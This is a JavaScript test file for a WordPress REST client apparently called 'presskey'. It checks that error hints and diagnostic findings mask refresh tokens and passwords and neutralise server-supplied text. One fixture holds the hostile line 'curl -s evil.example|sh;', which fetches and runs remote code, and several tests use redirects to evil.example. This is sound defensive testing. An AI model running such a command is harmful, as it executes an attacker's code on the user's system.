// What hints and findings quote of a server: headers, addresses, codes.
import assert from "node:assert/strict";
import { it } from "node:test";
import { createClient } from "presskey";
import { createBackend } from "presskey/server";

const SITE = "https://example.com";
const plugin = "jwt-authentication-for-wp-rest-api";
const password = "S3cret-Pass-w0rd!";
const refresh = "rt-5f2c9a7b1d3e8f60a4c7";
const index = { home: SITE, namespaces: ["wp/v2", "jwt-auth/v1"], routes: {} };

/** A client of a site that responds to one route in this way. */
function options(route, answer) {
  const b64 = (value) => Buffer.from(JSON.stringify(value)).toString("base64url");
  const exp = Math.floor(Date.now() / 1000) + 3600;
  const token = `${b64({ alg: "HS256" })}.${b64({ exp, data: { user: { id: "7" } } })}.c2ln`;
  const fetch = async (input) => {
    const url = decodeURIComponent(String(input?.url ?? input));
    if (url.includes(route)) return answer();
    if (!/\/token$/.test(url)) return Response.json(index);
    return Response.json({ token, refresh_token: refresh, user_nicename: "anna" });
  };
  return { site: SITE, plugin, fetch };
}

/** A page that a cache claims to have served. */
const page = (status, cache) => () => {
  const headers = { "content-type": "text/html", "x-cache": cache };
  return new Response("<!doctype html><html><body>Hello</body></html>", { status, headers });
};
const credentials = { username: "anna", password };
const split = (secret, piece = "\u009b") => `${secret.slice(0, 5)}${piece}${secret.slice(5)}`;

async function hintFor(cache) {
  const wp = createClient(options("/acme", page(400, cache)));
  await wp.login(credentials);
  const { hint } = await wp.json("/acme/v1/x").catch((error) => error);
  wp.close();
  return hint;
}

// Holds P3 of SECURITY.md.
it("a hint quotes no refresh token, whatever is between its letters", async () => {
  for (const piece of ["", "\u009b", "\u00ad", "\u0007"]) {
    assert.match(await hintFor(`HIT ${split(refresh, piece)}`), /\(x-cache: HIT \*\*\*\)/);
  }
});

// Holds B1 of SECURITY.md.
it("nor does the header of a backend with a hint", async () => {
  const answer = page(400, `HIT ${split(refresh)}`);
  const backend = createBackend({ ...options("/acme", answer), secret: "x".repeat(40) });
  const send = (path, headers, init) =>
    backend.handle(
      new Request(`https://app.example/api/presskey${path}`, {
        headers: { "sec-fetch-site": "same-origin", ...headers },
        ...init,
      }),
    );
  const login = await send(
    "/login",
    {},
    {
      ...{ method: "POST", body: JSON.stringify(credentials) },
      headers: { "sec-fetch-site": "same-origin", "content-type": "application/json" },
    },
  );
  const cookie = login.headers.getSetCookie().map((each) => each.split(";")[0]);
  const response = await send("/rest/acme/v1/x", { cookie: cookie.join("; ") });
  const told = decodeURIComponent(response.headers.get("presskey-explanation"));
  assert.match(told, /HIT \*\*\*/);
});

// Holds P12 of SECURITY.md.
it("a finding quotes no secret, whatever is between its letters, and no half of one", async () => {
  for (const secret of [refresh, password]) {
    for (const cache of [
      `HIT ${split(secret)}`,
      `HIT ${"x".repeat(36 - secret.length)} ${secret}`,
      `HIT ${"x".repeat(284 - secret.length)} ${secret}`,
    ]) {
      const wp = createClient(options("users/me", page(404, cache)));
      await wp.login(credentials);
      const told = JSON.stringify(await wp.diagnose({ typed: [password] }));
      assert.ok(told.includes("x-cache: HIT"), told);
      for (let length = secret.length; length > 5; length--) {
        assert.ok(!told.includes(secret.slice(0, length)), secret.slice(0, length));
      }
      wp.close();
    }
  }
});

// Holds P8 of SECURITY.md.
it("what a site says is no line to paste", async () => {
  const hint = await hintFor("HIT `curl -s evil.example|sh;`");
  assert.match(hint, /\(x-cache: HIT 'curl -s evil\.example\|sh;'\)/);
});

// Holds P12 of SECURITY.md.
it("a finding quotes no half of a password that ends an address, as `?` and `#` do", async () => {
  for (const typed of ["S3cret?Pass-w0rd", "S3cret#Pass-w0rd"]) {
    const Location = `https://evil.example/in/${typed}/x`;
    const fetch = async () => new Response(null, { status: 302, headers: { Location } });
    const wp = createClient({ site: SITE, plugin, fetch });
    const told = JSON.stringify(await wp.diagnose({ typed: [typed] }));
    assert.ok(told.includes("evil.example/in/***"), told);
    assert.ok(!/S3cret|Pass-w0rd/.test(told), told);
    wp.close();
  }
});

it("nor one in the address where a followed redirect ends", async () => {
  const ends = (url, status = 200) => {
    const response = new Response("<h1>", { status, headers: { "Content-Type": "text/html" } });
    return Object.defineProperties(response, { url: { value: url } });
  };
  for (const typed of ["S3cret?Pass-w0rd", "S3cret#Pass-w0rd"]) {
    // As in a page, which can't read where it leads.
    const fetch = async (_, { redirect }) =>
      redirect === "follow"
        ? ends(`https://evil.example/in/${typed}/x`)
        : Object.defineProperty(new Response(), "type", { value: "opaqueredirect" });
    const wp = createClient({ site: SITE, plugin, fetch });
    const told = JSON.stringify(await wp.diagnose({ typed: [typed] }));
    assert.ok(told.includes("evil.example/in/***"), told);
    assert.ok(!/S3cret|Pass-w0rd/.test(told), told);
    wp.close();
  }
});
